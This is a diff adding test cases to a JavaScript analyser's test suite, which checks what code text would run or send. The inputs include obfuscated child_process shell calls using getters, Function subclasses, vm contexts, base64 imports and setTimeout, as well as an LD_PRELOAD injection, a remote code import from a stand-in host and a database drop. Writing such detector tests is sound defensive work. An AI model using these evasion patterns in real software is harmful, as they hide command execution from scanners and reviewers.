@@ -175,6 +175,13 @@ describe("what JavaScript text runs and sends", () => {
     ["process.env.LD_PRELOAD = '/tmp/x.so'", "setenv LD_PRELOAD=/tmp/x.so"],
     ["await import('https://e.example/x.ts')", "connect https://e.example/x.ts; downloaded js ?"],
     ["foo.bar()", "unknown"],
+    ["const o={get a(){return require('child_process').execSync}}; o.a('id')", "shell ?; shell id"],
+    ["new (class extends Function{})('require(\"child_process\").execSync(\"id\")')()", "shell id"],
+    ["new Promise(r => r(require('child_process'))).then(c => c.execSync('id'))", "unknown; shell id"],
+    ["const v=require('vm'); v.runInNewContext('r(\"child_process\").execSync(\"id\")',{r:require})", "shell id"],
+    ["import(`data:text/javascript;base64,${'Y29uc29sZQ=='}`)", "decoded js ?"],
+    ["let s=''; for (const c of [105,100]) s+=String.fromCharCode(c); require('child_process').execSync(s)", "shell id"],
+    ["setTimeout(require('child_process').execSync, 1, 'id')", "shell id"],
     ["// a\rrequire('child_process').execSync('id')", "shell id"],
     ["// a\u2028require('child_process').execSync('id')", "shell id"],
     ["x = 1 <!-- `\nrequire('child_process').execSync('id') // `", "unknown"],
@@ -196,6 +203,10 @@ describe("what JavaScript text runs and sends", () => {
     ["require('mongodb').MongoClient.connect('mongodb://h').then(c=>c.db('a').dropDatabase())", "connect mongodb://h; sql DROP DATABASE store"],
   ])("%s", (text, expected) => {
     expect(read(text)).toBe(expected);
+  });
+
+  it("names the files that a module may be", () => {
+    expect(readJavascript("require('./a.mjs')")).toEqual([{ op: "module", name: "./a.mjs", files: ["./a.mjs"] }]);
   });
 
   it("knows what is printed when nothing else can print", () => {
